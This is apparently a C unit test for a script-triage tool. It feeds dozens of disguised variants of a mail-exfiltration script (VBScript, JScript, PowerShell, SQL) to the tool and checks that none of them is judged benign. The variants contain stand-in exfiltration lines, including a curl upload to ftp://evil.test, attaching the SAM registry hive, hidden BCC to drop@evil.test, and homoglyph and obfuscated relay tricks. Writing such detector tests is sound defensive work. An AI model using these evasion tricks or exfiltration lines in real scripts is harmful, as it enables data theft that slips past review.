/* SPDX-License-Identifier: Apache-2.0 */
/* test_adversary.c - an exfiltrating script edited in many ways to pass as the nightly report that
 * the site's task runs: none of them may become benign, likely or known. */
#include "assess_test.h"

static const char SITE[] = "format: triage-benign/1\nsite:\n  mail-domains: [corp.example]\n"
                           "  relays: [mail.corp.example, 10.20.0.0/16, \"2001:db8::/32\"]\n";

#define SCHEMA "http://schemas.microsoft.com/cdo/configuration/"
#define MAKE "Set m = CreateObject(\"CDO.Message\")\nSet f = m.Configuration.Fields\n"
#define RELAY "f.Item(\"" SCHEMA "smtpserver\") = \"mail.corp.example\"\n"
#define FROM "m.From = \"job@corp.example\"\n"
#define TO "m.To = \"finance@corp.example\"\n"
#define SEND "f.Update\nm.Send\n"
#define SERVER(x) MAKE "f.Item(\"" SCHEMA "smtpserver\") = " x "\n" FROM TO SEND
#define RECIPIENT(x) MAKE RELAY FROM "m.To = " x "\n" SEND
#define MORE(x) MAKE RELAY FROM TO x SEND
#define OUT "\"smtp.evil.test\""
#define OUTSIDER "\"drop@evil.test\""

typedef struct {
  const char *what, *text;
} Edit;

static const Edit EDITS[] = {
    {"relay named in a comment", "' " RELAY "' " TO SERVER(OUT)},
    {"relay named in a Rem", "Rem " RELAY SERVER(OUT)},
    {"relay in a string never used", "x = \"mail.corp.example\"\n" SERVER(OUT)},
    {"approved address never used", "x = \"finance@corp.example\"\n" RECIPIENT(OUTSIDER)},
    {"dead code before", "If False Then\n" RELAY "End If\n" SERVER(OUT)},
    {"dead code behind", SERVER(OUT) "WScript.Quit\n" RELAY TO},
    {"relay set first, overwritten", MORE("f.Item(\"" SCHEMA "smtpserver\") = " OUT "\n")},
    {"overwritten by its constant", MORE("f.Item(cdoSMTPServer) = " OUT "\n")},
    {"overwritten by .Value", MORE("f.Item(\"" SCHEMA "SMTPSERVER\").Value = " OUT "\n")},
    {"overwritten through With",
     MORE("With f\n.Item(\"" SCHEMA "smtpserver\") = " OUT "\nEnd With\n")},
    {"key in pieces", MORE("f.Item(\"" SCHEMA "smtp\" & \"server\") = " OUT "\n")},
    {"key in a variable", MORE("k = \"" SCHEMA "smtpserver\"\nf(k) = " OUT "\n")},
    {"key made at run time", MORE("f(StrReverse(k)) = " OUT "\n")},
    {"key from another function", MORE("f.Item(Chr(104) & x) = " OUT "\n")},
    {"variable changed by a branch",
     "s = \"mail.corp.example\"\nIf x Then s = " OUT "\n" SERVER("s")},
    {"variable changed by a procedure",
     "s = \"mail.corp.example\"\nSwap s\nSub Swap(ByRef z)\nz = " OUT "\nEnd Sub\n" SERVER("s")},
    {"variable changed by a loop",
     "s = \"mail.corp.example\"\nFor Each s In Array(" OUT ")\nNext\n" SERVER("s")},
    {"Execute", MORE("Execute \"f.Item(cdoSMTPServer) = \" & x\n")},
    {"ExecuteGlobal", MORE("ExecuteGlobal x\n")},
    {"Eval", MORE("y = Eval(x)\n")},
    {"GetObject new:", MORE("Set n = GetObject(\"new:CD000001-8B95-11D1-82DB-00C04FB1625D\")\n")},
    {"ProgID made at run time", MORE("Set n = CreateObject(StrReverse(\"egasseM.ODC\"))\n")},
    {"XMLHTTP beside", MORE("Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"POST\", u\n")},
    {"ScriptControl", MORE("Set c = CreateObject(\"ScriptControl\")\nc.AddCode x\n")},
    {"curl beside", MORE("sh.Run \"curl -T a.zip ftp://evil.test\"\n")},
    {"BCC", MORE("m.Bcc = " OUTSIDER "\n")},
    {"BCC as a header", MORE("m.Fields(\"urn:schemas:mailheader:bcc\") = " OUTSIDER "\n")},
    {"CC at run time", MORE("m.CC = x\n")},
    {"second recipient", RECIPIENT("\"finance@corp.example; drop@evil.test\"")},
    {"display name", RECIPIENT("\"\"\"finance@corp.example\"\" <drop@evil.test>\"")},
    {"percent route", RECIPIENT("\"drop%evil.test@corp.example\"")},
    {"bang route", RECIPIENT("\"evil.test!drop@corp.example\"")},
    {"two at signs", RECIPIENT("\"drop@evil.test@corp.example\"")},
    {"quoted local part", RECIPIENT("\"\"\"drop@evil.test\"\"@corp.example\"")},
    {"sub-domain trick, mail", RECIPIENT("\"drop@corp.example.evil.test\"")},
    {"prefix trick, mail", RECIPIENT("\"drop@evilcorp.example\"")},
    {"sub-domain trick", SERVER("\"mail.corp.example.evil.test\"")},
    {"prefix trick", SERVER("\"evilmail.corp.example\"")},
    {"Cyrillic letter in the relay", SERVER("\"mail.\xd1\x81orp.example\"")},
    {"Cyrillic letter in the address", RECIPIENT("\"drop@\xd1\x81orp.example\"")},
    {"full-width dot", SERVER("\"mail.corp\xef\xbc\x8e"
                              "example\"")},
    {"zero width space", SERVER("\"mail.corp.example\xe2\x80\x8b\"")},
    {"user part before the relay", SERVER("\"mail.corp.example@evil.test\"")},
    {"relay as a path", SERVER("\"evil.test/mail.corp.example\"")},
    {"decimal address", SERVER("\"169148674\"")},
    {"octal address", SERVER("\"012.024.0.1\"")},
    {"hexadecimal address", SERVER("\"0x0a140001\"")},
    {"short address", SERVER("\"10.1312257\"")},
    {"address with a space", SERVER("\"10.20.0.1 evil.test\"")},
    {"IPv6 of an IPv4", SERVER("\"::ffff:203.0.113.9\"")},
    {"IPv6 outside", SERVER("\"[2001:db9::1]\"")},
    {"address outside by one bit", SERVER("\"10.21.0.1\"")},
    {"address as a name", SERVER("\"10.20.0.1.evil.test\"")},
    {"brackets hide a comment", "[x'] = 1 : m.Bcc = " OUTSIDER "\n" MORE("")},
    {"control character hides the rest", MORE("") "' \x01\nm.Bcc = " OUTSIDER "\n"},
    {"bracketed property", MORE("m.[Bcc] = " OUTSIDER "\n")},
    {"bang", MORE("m.Fields![urn:schemas:mailheader:bcc] = " OUTSIDER "\n")},
    {"wrong schema", MAKE "f.Item(\"http://x.test/cdo/configuration/smtpserver\") = "
                          "\"mail.corp.example\"\n" FROM TO SEND},
    {"page fetched as the body", MORE("m.CreateMHTMLBody \"http://evil.test/?\" & data\n")},
    {"address fetched as an attachment", MORE("m.AddAttachment \"http://evil.test/?x\"\n")},
    {"newsgroup", MORE("m.Newsgroups = \"alt.test\"\n")},
    {"case label", MORE("Select Case 1\nCase 1 : m.Bcc = " OUTSIDER "\nEnd Select\n")},
    {"else branch", MORE("If x Then y = 1 Else m.Bcc = " OUTSIDER "\n")},
    {"SQL beside", "EXEC @hr = sp_OACreate 'CDO.Message', @m OUT\n"
                   "EXEC @hr = sp_OASetProperty @m, 'To', 'finance@corp.example'\n"
                   "EXEC @hr = sp_OASetProperty @f, 'Item', 'drop@evil.test', 'bcc'\n"},
    {"proxy field", MORE("f.Item(\"" SCHEMA "urlproxyserver\") = \"evil.test:80\"\n")},
    {"attached hive", MORE("m.AddAttachment \"C:\\Windows\\System32\\config\\SAM\"\n")},
    {"attached folder",
     MORE("For Each a In fso.GetFolder(d).Files\nm.AddAttachment a.Path\nNext\n")},
    {"line continued", "m.Bcc _\n = " OUTSIDER "\n" MORE("")},
    {"colon behind a comment-like string", MORE("x = \"'\" : m.Bcc = " OUTSIDER "\n")},
    {"script of two languages",
     "'';m=new ActiveXObject(\"CDO.Message\");m.To=\"finance@corp.example\"//\n"
     "Set q = GetObject(x)\nm.Bcc = " OUTSIDER "\nm.Send\n"},
    {"JScript: conditional comment",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "/*@cc_on m.Bcc = 'drop@evil.test'; @*/\nm.Send();\n"},
    {"JScript: regular expression with a quote",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "x = /'/; m.Bcc = 'drop@evil.test'; y = /'/;\nm.Send();\n"},
    {"JScript: property by index",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "m['B' + 'cc'] = 'drop@evil.test';\nm.Send();\n"},
    {"JScript: index at run time",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "m[k()] = 'drop@evil.test';\nm.Send();\n"},
    {"JScript: with", "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
                      "with (m) { Bcc = 'drop@evil.test'; }\nm.Send();\n"},
    {"JScript: call by index",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "this['ev' + 'al'](x);\nm.Send();\n"},
    {"JScript: Function",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "new Function(x)();\nm.Send();\n"},
    {"JScript: name in escapes",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "m.\\u0042cc = 'drop@evil.test';\nm.Send();\n"},
    {"JScript: octal escapes",
     "var m = new ActiveXObject('CDO.Message');\nm.To = 'finance@corp.example';\n"
     "m['\\102cc'] = 'drop@evil.test';\nm.Send();\n"},
    {"PowerShell: property in quotes",
     "$m = New-Object -ComObject CDO.Message\n$m.To = 'finance@corp.example'\n"
     "$m.\"Bcc\" = 'drop@evil.test'\n$m.Send()\n"},
    {"PowerShell: property in a variable",
     "$m = New-Object -ComObject CDO.Message\n$m.To = 'finance@corp.example'\n"
     "$m.$p = 'drop@evil.test'\n$m.Send()\n"},
    {"PowerShell: call by name",
     "$m = New-Object -ComObject CDO.Message\n$m.To = 'finance@corp.example'\n& $c\n$m.Send()\n"},
    {"PowerShell: hash within a word",
     "$m = New-Object -ComObject CDO.Message\n$m.To = 'finance@corp.example'\n"
     "foo#bar; $m.Bcc = 'drop@evil.test'\n$m.Send()\n"},
    {"PowerShell: Invoke-Expression",
     "$m = New-Object -ComObject CDO.Message\n$m.To = 'finance@corp.example'\niex $x\n$m.Send()\n"},
    {"PowerShell: value in quotes of print",
     "$m = New-Object -ComObject CDO.Message\n$m.To = 'finance@corp.example'\n"
     "$m.Bcc = \xe2\x80\x9c"
     "drop@evil.test\xe2\x80\x9d\n$m.Send()\n"},
};

static FactRef report_task(void) {
  return (FactRef){.kind = "task",
                   .target =
                       "C:\\\\Windows\\\\System32\\\\cscript.exe //B \"C:\\\\Scripts\\\\n.vbs\"",
                   .detail = "author CORP\\\\adm",
                   .path = "/Windows/System32/Tasks/Corp/Report",
                   .sha256 = "aa",
                   .evidence = "disk",
                   .volume = 1,
                   .is_live = true};
}

static void test_text(void **state) {
  (void)state;
  FactRef fact = report_task();
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &fact);
  g_autoptr(ProfileSet) set = test_profiles(SITE);
  TestPlace place = {.path = "/Scripts/n.vbs", .facts = facts};
  Verdict honest;
  test_assess(set, &place, MORE(""), &honest); /* else the test shows nothing */
  assert_int_equal(honest.verdict, VERDICT_KNOWN_BENIGN);
  verdict_clear(&honest);
  guint n_passed = 0;
  for (guint i = 0; i < G_N_ELEMENTS(EDITS); i++) {
    Verdict verdict;
    test_assess(set, &place, EDITS[i].text, &verdict);
    if (verdict.verdict <= VERDICT_LIKELY_BENIGN) {
      print_message("%s: %s (%s)\n", EDITS[i].what, verdict_name(verdict.verdict), verdict.reason);
      n_passed++;
    }
    verdict_clear(&verdict);
  }
  assert_int_equal(n_passed, 0);
  assert_true(G_N_ELEMENTS(EDITS) >= 50);
}

typedef struct {
  const char *what;
  TestPlace place;
  const char *target, *task_path;
  uint32_t volume;
} Setting;

/* The honest text in the wrong place, or a task that does not run it: never known. */
static void test_setting(void **state) {
  (void)state;
  static const Setting settings[] = {
      {"task runs another script",
       {.path = "/Scripts/n.vbs"},
       "cscript C:\\\\Scripts\\\\x.vbs",
       NULL,
       0},
      {"script is another's argument",
       {.path = "/Scripts/n.vbs"},
       "cscript C:\\\\x\\\\evil.vbs C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"task only deletes it",
       {.path = "/Scripts/n.vbs"},
       "cmd /c del C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"task prints its name",
       {.path = "/Scripts/n.vbs"},
       "cmd /c echo C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"longer path",
       {.path = "/Scripts/n.vbs"},
       "cscript C:\\\\Scripts\\\\n.vbs.old.vbs",
       NULL,
       0},
      {"path within a path",
       {.path = "/Scripts/n.vbs"},
       "cscript C:\\\\A\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"other drive", {.path = "/Scripts/n.vbs"}, "cscript D:\\\\Scripts\\\\n.vbs", NULL, 0},
      {"network share",
       {.path = "/Scripts/n.vbs"},
       "cscript \\\\\\\\srv\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"Cyrillic letter in the path",
       {.path = "/S\xd1\x81ripts/n.vbs"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"decomposed letter in the path",
       {.path = "/Berichte/u\xcc\x88.vbs"},
       "cscript C:\\\\Berichte\\\\\xc3\xbc.vbs",
       NULL,
       0},
      {"backslashes in one name",
       {.path = "/Scripts\\\\n.vbs"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"task file lies elsewhere",
       {.path = "/Scripts/n.vbs"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       "/Users/x/Downloads/Report.xml",
       0},
      {"task of another volume",
       {.path = "/Scripts/n.vbs"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       2},
      {"copy of the tree",
       {.path = "/old/Scripts/n.vbs"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"in an archive",
       {.path = "/backup.zip", .member = "Scripts/n.vbs"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"deleted",
       {.path = "/Scripts/n.vbs", .state = "deleted"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"orphan",
       {.path = "/Scripts/n.vbs", .state = "orphan"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"stream",
       {.path = "/Scripts/n.vbs", .is_named_stream = true},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"timestomped",
       {.path = "/Scripts/n.vbs", .is_timestomped = true},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
      {"encoded",
       {.path = "/Scripts/n.vbs", .view = "vbe"},
       "cscript C:\\\\Scripts\\\\n.vbs",
       NULL,
       0},
  };
  g_autoptr(ProfileSet) set = test_profiles(SITE);
  for (guint i = 0; i < G_N_ELEMENTS(settings); i++) {
    FactRef fact = report_task();
    fact.target = settings[i].target;
    fact.path = settings[i].task_path != NULL ? settings[i].task_path : fact.path;
    fact.volume = settings[i].volume != 0 ? settings[i].volume : 1;
    g_autoptr(GPtrArray) facts = g_ptr_array_new();
    g_ptr_array_add(facts, &fact);
    TestPlace place = settings[i].place;
    place.facts = facts;
    Verdict verdict;
    test_assess(set, &place, MORE(""), &verdict);
    if (verdict.verdict == VERDICT_KNOWN_BENIGN || verdict.corroboration->len > 0)
      fail_msg("%s: %s (%s)", settings[i].what, verdict_name(verdict.verdict), verdict.reason);
    verdict_clear(&verdict);
  }
}

int main(void) {
  const struct CMUnitTest tests[] = {cmocka_unit_test(test_text), cmocka_unit_test(test_setting)};
  return cmocka_run_group_tests(tests, NULL, NULL);
}
